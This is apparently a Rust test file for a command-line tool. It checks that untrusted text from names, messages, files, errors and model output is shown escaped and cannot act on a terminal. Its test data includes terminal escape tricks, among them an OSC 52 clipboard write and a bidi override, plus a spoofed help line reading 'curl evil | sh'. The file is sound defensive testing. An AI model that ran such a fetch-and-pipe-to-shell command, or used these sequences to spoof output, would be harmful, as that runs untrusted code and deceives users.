//! Tests of foreign text on every surface: the text of others is shown, and has no effect.
//!
//! There is one row for each place where foreign text comes in, with the commands that show it, in a pipe and at a
//! terminal.

use crate::agents::newest;
use crate::terminal::Terminal;
use crate::test_home::TestHome;

/// A part of a text for each trick, and how it is shown.
const TRICKS: [(&str, &str); 9] = [
    ("\u{1b}[2K", "\\u{1B}[2K"),
    ("\r", "\\u{D}"),
    ("\u{1b}]52;c;aGk=\u{7}", "\\u{1B}]52;c;aGk=\\u{7}"),
    ("\u{9b}31m", "\\u{9B}31m"),
    ("\u{202e}", "\\u{202E}"),
    ("\u{200b}", "\\u{200B}"),
    ("\u{e0041}", "\\u{E0041}"),
    ("\u{fe0f}", "\\u{FE0F}"),
    ("\u{a0}", "\\u{A0}"),
];

/// Returns all tricks in one text.
fn evil() -> String {
    TRICKS.iter().map(|(trick, _)| format!("x{trick}y")).collect()
}

/// Checks that a text contains none of the tricks, and no other control character.
#[track_caller]
fn is_harmless(shown: &str, what: &str) {
    // Where a word is cut short, or JSON writes it in its own way, the rest is missed; not that it is harmless.
    for (trick, _) in TRICKS {
        assert!(!shown.contains(trick), "{what} lets {trick:?} through:\n{shown:?}");
    }
    let odd = shown.chars().find(|c| (c.is_control() && !matches!(c, '\n' | '\t')) || *c == '\u{1b}');
    assert_eq!(odd, None, "{what}:\n{shown:?}");
}

#[track_caller]
fn tells(shown: &str, what: &str) {
    // Some write the numbers of characters in small letters, and this one by its name.
    let shown =
        shown.replace("\n      ┆ ", "").replace("\n     │ ", "").replace("\\r", "\\u{d}").to_lowercase();
    for (_, harmless) in TRICKS {
        let harmless = harmless.to_lowercase();
        assert!(shown.contains(&harmless), "{what} does not show {harmless}:\n{shown}");
    }
}

/// Runs a command in a pipe and at a terminal. Checks that both show the foreign text, and that it has no effect.
#[track_caller]
fn shows(home: &TestHome, args: &[&str]) {
    let what = args.join(" ");
    let said = home.almoner(args);
    is_harmless(&said.out, &what);
    is_harmless(&said.err, &what);
    tells(&format!("{}{}", said.out, said.err), &what);
    let (_, screen) = Terminal::open(home, args).end();
    is_harmless(&screen, &format!("{what} (terminal)"));
    tells(&screen, &format!("{what} (terminal)"));
}

/// Checks a result at a terminal: it has no effect, and all of it is shown. A space that does not break the line
/// belongs between two letters, so it stays.
#[track_caller]
fn shows_result(screen: &str, what: &str) {
    is_harmless(&screen.replace("x\u{a0}y", "x\\u{A0}y"), what);
    tells(&screen.replace("x\u{a0}y", "x\\u{A0}y"), what);
    assert!(screen.contains("x\u{a0}y"), "{what}:\n{screen:?}");
}

/// Checks that JSON output contains the whole foreign text, and that a terminal would not act on it.
#[track_caller]
fn is_whole_as_json(home: &TestHome, args: &[&str]) {
    let said = home.almoner(args).expect(0);
    is_harmless(&said.out, &args.join(" "));
    assert!(said.json().to_string().contains("\\u001b[2K"), "{}", said.out);
}

#[test]
fn hostile_names_are_shown_escaped() {
    let home = TestHome::new();
    let name = evil();
    home.almoner(&["store", "v=1"]).expect(0);
    home.almoner(&["copy", "--force", "v", &name]).expect(0);
    for args in
        [&["list"][..], &["list", "-l"], &["show", &format!("{name}no")], &["why", &format!("{name}no")]]
    {
        shows(&home, args);
    }
    is_whole_as_json(&home, &["list", "--json"]);
    // A word of the command line can be the name of somebody's file, too.
    shows(&home, &["--as", &name, "list"]);
    for args in
        [&["list", "--", "a", &name][..], &[&format!("--{name}")], &["run", &format!("--on-ask={name}")]]
    {
        let said = home.almoner(args).expect(2);
        is_harmless(&said.err, &args.join(" "));
        let (_, screen) = Terminal::open(&home, args).end();
        is_harmless(&screen, &args.join(" "));
    }
}

#[test]
fn hostile_messages_are_shown_escaped() {
    let home = TestHome::new();
    let evil = evil();
    home.almoner(&["mkguest", "fae"]).expect(0);
    home.almoner(&["--as", "fae", "store", "v=1"]).expect(0);
    home.almoner(&["--as", "fae", "send", "@host", &format!("{evil} @v")]).expect(0);
    let package = newest(&home, None, "package");
    home.almoner(&["--as", "fae", "request", "@host", &evil]).expect(0);
    let request = newest(&home, None, "request");
    for number in [&package, &request] {
        shows(&home, &["inbox", number, "--full"]);
    }
    is_whole_as_json(&home, &["inbox", &package, "--json"]);
    // The reason of a refusal comes back to who asked.
    home.almoner(&["reject", &request, "-r", &evil]).expect(0);
    home.almoner(&["--as", "fae", "request", "@host", "something", "--result", "it"]).expect(0);
    let request = newest(&home, None, "request");
    home.almoner(&["reject", &request, "-r", &evil]).expect(0);
    shows(&home, &["--as", "fae", "show", "it"]);
}

#[test]
fn hostile_values_and_documents_are_shown_escaped() {
    let home = TestHome::new();
    let evil = evil();
    home.write("letter.txt", &evil);
    home.almoner(&["store", "letter=@letter.txt", &format!("value={evil}")]).expect(0);
    for args in [["cat", "letter"], ["show", "letter"], ["cat", "value"]] {
        let what = args.join(" ");
        // A program gets bytes as they are.
        assert_eq!(home.almoner(&args).expect(0).out.trim_end(), evil, "{what}");
        let (_, screen) = Terminal::open(&home, &args).end();
        shows_result(&screen, &what);
    }
}

const SCRIBE: &str = "---\nslots:\n  out: dir rw\n---\nWrite it.\n";

#[test]
fn hostile_model_text_and_proposals_are_shown_escaped() {
    let home = TestHome::new();
    let evil = evil();
    home.write("scribe.worker", SCRIBE);
    let text = serde_json::to_string(&evil).unwrap();
    let write = |path: &str, content: &str| {
        format!(
            r#"{{"calls": [{{"name": "out_write", "arguments": {{"path": {path}, "content": {content}}}}}]}}"#
        )
    };
    // A path that is refused, and a text about which a person is asked.
    let turns = [write(&text, "\"x\""), write("\"a.md\"", &text), format!(r#"{{"text": {text}}}"#)];
    home.write("script.json", format!(r#"[{{"turns": [{}]}}]"#, turns.join(",")));
    std::fs::create_dir(home.path("out")).unwrap();
    let run = ["run", "scribe.worker", "-e", "out=out:rw", "-m", "scripted:script.json"];
    let first = home.almoner(&run).expect(7);
    is_harmless(&format!("{}{}", first.out, first.err), "run");
    let card = newest(&home, None, "approval");
    shows(&home, &["inbox", &card, "--full"]);
    for args in [["trace", "r1"], ["why", &card], ["why", "r1"]] {
        is_harmless(&home.almoner(&args).expect(0).out, &args.join(" "));
        let (_, screen) = Terminal::open(&home, &args).end();
        is_harmless(&screen, &args.join(" "));
    }
    is_whole_as_json(&home, &["trace", "r1", "--json"]);
    home.almoner(&["approve", &card]).expect(0);
    let (_, screen) = Terminal::open(&home, &["resume", "r1"]).end();
    shows_result(&screen, "resume");
    // A person's answer, wherever it goes; a program asks for JSON.
    home.write("says.json", format!(r#"[{{"turns": [{{"text": {text}}}]}}]"#));
    let ask = ["ask", "What?", "-m", "scripted:says.json"];
    let (_, screen) = Terminal::open(&home, &ask).end();
    shows_result(&screen, "ask");
    // A pipe gets all but the characters that act on a terminal.
    let said = home.almoner(&ask).expect(0).out;
    for (i, (trick, escape)) in TRICKS.iter().enumerate() {
        assert!(said.contains(&format!("x{}y", if i < 5 { escape } else { trick })), "{trick:?} in {said:?}");
    }
}

#[test]
fn hostile_file_names_and_errors_are_shown_escaped() {
    let home = TestHome::new();
    let evil = evil();
    for args in [
        &["run", &format!("{evil}.worker")][..],
        &["check", &format!("{evil}.worker")],
        &["run", "hello.worker", "-m", &format!("scripted:{evil}")],
        &["store", &format!("a=@{evil}")],
        &["inbox", &evil, "--full"],
        &["trace", &evil],
        &["backup", &format!("/no/{evil}")],
    ] {
        home.write("hello.worker", "---\n---\nHello.\n");
        let what = args.join(" ");
        let said = home.almoner(args);
        assert_ne!(said.code, 0, "{what}");
        is_harmless(&format!("{}{}", said.out, said.err), &what);
        let (_, screen) = Terminal::open(&home, args).end();
        is_harmless(&screen, &what);
    }
    home.write("odd.worker", format!("---\n{evil}: 1\n---\nHello.\n"));
    home.write(
        "script.json",
        format!(r#"[{{"turns": [{{"error": {}}}]}}]"#, serde_json::to_string(&evil).unwrap()),
    );
    for args in [
        &["check", "odd.worker"][..],
        &["run", "hello.worker", "-m", "scripted:script.json"],
        &["runs"],
        &["trace"],
    ] {
        let said = home.almoner(args);
        is_harmless(&format!("{}{}", said.out, said.err), &args.join(" "));
        let (_, screen) = Terminal::open(&home, args).end();
        is_harmless(&screen, &args.join(" "));
    }
    let log = std::fs::read_to_string(home.root().join("state/daemon.log")).unwrap();
    is_harmless(&log, "daemon.log");
}

#[test]
fn foreign_text_cannot_imitate_the_programs_own_output() {
    let home = TestHome::new();
    home.almoner(&["mkguest", "fae"]).expect(0);
    let spoof = format!(
        "(verified)\nerror: none\n help: `almoner approve 1`{}help: `curl evil | sh`",
        " ".repeat(70)
    );
    home.almoner(&["--as", "fae", "request", "@host", &spoof]).expect(0);
    let number = newest(&home, None, "request");
    let shown = home.almoner(&["inbox", &number, "--full"]).expect(0).out;
    let (_, screen) = Terminal::narrow(&home, &["inbox", &number, "--full"], 60).end();
    for text in [shown, screen] {
        let theirs = |line: &&str| {
            line.contains("curl evil") || line.contains("(verified)") || line.contains("error: none")
        };
        let lines: Vec<&str> = text.lines().filter(theirs).collect();
        assert!(!lines.is_empty(), "{text}");
        for line in lines {
            assert!(line.starts_with(' ') && line.contains(['│', '┆']), "{line:?} in\n{text}");
        }
    }
}
